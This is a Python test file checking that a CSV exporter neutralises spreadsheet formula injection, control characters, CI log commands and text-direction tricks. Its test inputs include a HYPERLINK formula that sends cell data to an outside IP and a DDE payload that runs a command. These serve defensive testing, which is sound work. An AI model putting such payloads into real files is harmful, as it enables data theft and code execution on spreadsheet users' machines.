"""Tables as CSV: what goes in comes back, and no text is a formula."""

from __future__ import annotations

import csv
import io
import math
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from minbar.report.csv_text import Cell, csv_document
from tests.report.hostile import hostile_text

SIGNS = "=+-@\N{MINUS SIGN}"
FORMULAS = [
    '=HYPERLINK("http://192.0.2.1/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-13",
    "@SUM(13)",
    "  =13",
    "\u00a0\u3000=13",
    "\t=13",
    "\r=13",
    "\n=13",
    "\u202e=13",
    "\ufeff=13",
    "\x1b[0m=13",
    "\N{FULLWIDTH EQUALS SIGN}13",
    "\N{FULLWIDTH PLUS SIGN}13",
    "\N{FULLWIDTH HYPHEN-MINUS}13",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(13)",
    "\N{SMALL EQUALS SIGN}13",
    "\N{MINUS SIGN}13",
    '"=13',
    "'=13",
    "harmless;=13",
    'harmless;"=13"',
    "harmless; '\"=13;+13",
    "harmless\n=13",
    'harmless"\r\n=13',
    'harmless","=13',
]


def read_back(document: str, delimiter: str = ",") -> list[list[str]]:
    """Parse a document, strictly where it is parted as it was written."""
    strict = delimiter == ","
    return list(csv.reader(io.StringIO(document, newline=""), delimiter=delimiter, strict=strict))


def is_formula(cell: str) -> bool:
    """Tell whether a spreadsheet could take a text for a formula, be it ever so lenient."""
    begun = unicodedata.normalize("NFKC", cell).lstrip().lstrip('"').lstrip()
    return begun[:1] in set(SIGNS)


def shown(text: str) -> str:
    """Return one text as it is read back from a table."""
    ((_,), (cell,)) = read_back(csv_document(["name"], [[text]]))
    return cell


def test_plain_values_are_as_they_were() -> None:
    """Text, numbers and nothing come back as they went in, one row a line, with CRLF."""
    rows: list[list[Cell]] = [["Zoë, “M.”", 12.5, 13], ['say "hi"', -0.1, None], ["", 1e300, -7]]
    assert csv_document(["name", "points", "of"], rows) == (
        'name,points,of\r\n"Zoë, “M.”",12.5,13\r\n"say ""hi""",-0.1,\r\n,1e+300,-7\r\n'
    )


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text(formula: str) -> None:
    """No formula is left at the begin of a cell, whichever separator a spreadsheet goes by."""
    document = csv_document([formula, "b"], [[formula, 1], ["a", formula], [formula, formula]])
    for delimiter in ",;":
        rows = read_back(document, delimiter)
        assert [cell for row in rows for cell in row if is_formula(cell)] == []
        assert len(rows) == 4


def is_number(value: float | None) -> bool:
    """Tell whether a value is written as a number."""
    return isinstance(value, int | float) and math.isfinite(value) and abs(value) < 2**63


@given(
    st.lists(
        st.tuples(hostile_text(), st.floats(-(2.0**62), 2.0**62) | st.integers() | st.none()),
        max_size=4,
    )
)
def test_every_table_reads_back(rows: list[tuple[str, float | None]]) -> None:
    """Rows, cells and numbers are those that were written; text acts on nobody."""
    document = csv_document(["text", "number"], rows)
    document.encode("utf-8")
    assert document.count("\n") == len(rows) + 1 == document.count("\r\n")
    read = read_back(document)[1:]
    for (_, number), (text, cell) in zip(rows, read, strict=True):
        assert not is_formula(text)
        assert not is_number(number) or cell == repr(number)
        assert number is not None or not cell
        assert is_number(number) or not is_formula(cell)


@given(st.text(st.sampled_from("=+-@;'\" a\N{FULLWIDTH PLUS SIGN}"), max_size=12))
@example("'=13")
def test_an_apostrophe_more_is_all_that_changes(text: str) -> None:
    """Two texts never look the same: taking away what was put in gives back what was there."""
    parts, read = text.split(";"), shown(text).split(";")
    for part, cell in zip(parts, read, strict=True):
        assert cell == (f"'{part}" if is_formula(part.lstrip("' \"")) else part)


@given(st.text(st.characters(exclude_categories=["C", "Z", "M", "S", "P"])))
def test_words_are_left_alone(text: str) -> None:
    """Letters and digits of any script stay as they are."""
    assert shown(text) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("a\x00b\x1b]8;;x\x07", "a␀b␛]8;;x␇"),
        ("a\tb\r\nc", "a␉b␍␊c"),
        ("\u202egpj.exe", "⟨U+202E⟩gpj.exe"),
        ("half \ud800", "half ⟨U+D800⟩"),
        ("::error::13", ": :error::13"),
        ("##vso[task.complete]", "# #vso[task.complete]"),
    ],
)
def test_no_character_acts(text: str, cell: str) -> None:
    """Controls, line ends, text direction, halves and commands for CI logs are only shown."""
    assert shown(text) == cell


def test_long_text_stays_in_its_cell() -> None:
    """What a spreadsheet would go on with in the next cell is cut."""
    cell = shown("\U0001f600" * 20_000 + "=13")
    assert len(cell) == 4000
    assert cell.endswith("…")
    assert len(cell.encode("utf-16-le")) // 2 < 32_767


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (True, "true"),
        (math.nan, "nan"),
        (-math.inf, "'-inf"),
        (2**63, "integer of 64 bits"),
        (-(1 << 20_000), "integer of 20001 bits"),
    ],
    ids=["truth", "nothing", "infinity", "large", "huge"],
)
def test_odd_numbers_are_text(value: float, cell: str) -> None:
    """What no spreadsheet holds as a number is said in words, and is no formula."""
    assert read_back(csv_document(["n"], [[value]]))[1] == [cell]


def test_a_row_of_other_length_is_refused() -> None:
    """No cell moves under another heading unseen."""
    with pytest.raises(ValueError, match="a row of 3 cells under a header of 2"):
        csv_document(["a", "b"], [["1", "2", "3"]])
